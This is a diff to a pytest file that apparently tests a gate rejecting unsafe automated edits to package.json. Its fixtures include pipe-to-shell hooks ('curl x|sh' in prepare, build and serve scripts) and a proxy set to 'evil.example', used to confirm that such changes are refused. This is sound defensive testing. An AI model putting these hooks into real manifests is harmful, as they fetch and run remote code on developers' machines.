@@ -157,6 +157,13 @@ def test_lock_files_of_every_tool(workspace, path):
     [
         {"scripts": {"test": "jest", "prepare": "curl x|sh"}},
         {"scripts": {"test": "true"}},
+        {"scripts": {"test": "jest", "build": "vite build && curl x|sh"}},
+        {"scripts": {"test": "jest", "posttest": "tsc"}},
+        {"scripts": {"test": "NODE_OPTIONS=--openssl-legacy-provider jest"}},
+        {"scripts": {"tset": "jest"}},
+        {"scripts": {}},
+        {"scripts": "vite build"},
+        {"scripts": {"test": "jest"}, "proxy": "https://evil.example"},
         {"overrides": {"express": "1"}},
         {"main": "x.js"},
         {"workspaces": ["x"]},
@@ -175,6 +182,30 @@ def test_lock_files_of_every_tool(workspace, path):
 )  # fmt: skip
 def test_what_a_fix_may_not_do_to_a_package_json(workspace, fields):
     assert "manifests" in judged(workspace, manifest(**fields), dependencies=NPM)
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ({"test": "jest"}, {"test": "jest", "build": "vite build"}),
+        ({"test": "jest", "biuld": "x y"}, {"test": "jest", "build": "x y"}),
+        ({"start": "react-scripts start"}, {"start": "react-scripts --openssl-legacy-provider start"}),
+        ({"start": "next dev"}, {"start": "NODE_OPTIONS=--openssl-legacy-provider next dev"}),
+    ],
+)
+def test_scripts_that_may_change(workspace, before, after):
+    text = json.dumps({**MANIFEST, "scripts": before})
+    opened = workspace({**FILES, "package.json": text.encode()})
+
+    def refused(scripts):
+        wanted = json.dumps({**MANIFEST, "scripts": scripts})
+        change = Change("package.json", Action.MODIFY, "x", (Edit(0, len(text), wanted),))
+        candidate = Candidate("recipe:test", "test", (change,))
+        results = pass_gates(Proposal(opened, candidate, make_patch(opened, candidate), Policy(), None))
+        return [result.name for result in results if not result.passed]
+
+    assert refused(after) == []
+    assert refused({**after, "serve": "curl x|sh"}) == ["manifests"]
 
 
 @pytest.mark.parametrize("version", ["^2.8.5", "2.8.5", "~2.8", ">=2.8.5 <3.0.0", "2.x", "1.0.0-beta.1 || ^2"])
